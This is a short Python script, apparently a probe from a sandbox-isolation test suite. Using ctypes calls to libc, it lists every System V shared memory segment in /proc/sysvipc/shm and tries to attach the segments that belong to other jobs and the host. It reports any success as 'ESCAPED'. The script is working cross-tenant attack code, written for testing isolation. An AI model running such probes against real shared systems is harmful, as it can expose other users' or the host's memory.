# attack: attaches every segment of shared memory (System V) there is: other jobs' and the host's
# family: ctypes
import ctypes
import os
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
own = libc.shmget(0x686F7341, 4096, 0o1666)
print("REACHED own segment" if own >= 0 else os.strerror(ctypes.get_errno()), own)
with open("/proc/sysvipc/shm") as f:
    for line in f.readlines()[1:]:
        number = int(line.split()[1])
        if number != own:
            place = libc.shmat(number, None, 0o10000)
            print("ESCAPED attached" if place not in (None, 2**64 - 1) else "sees", line.split()[:4])
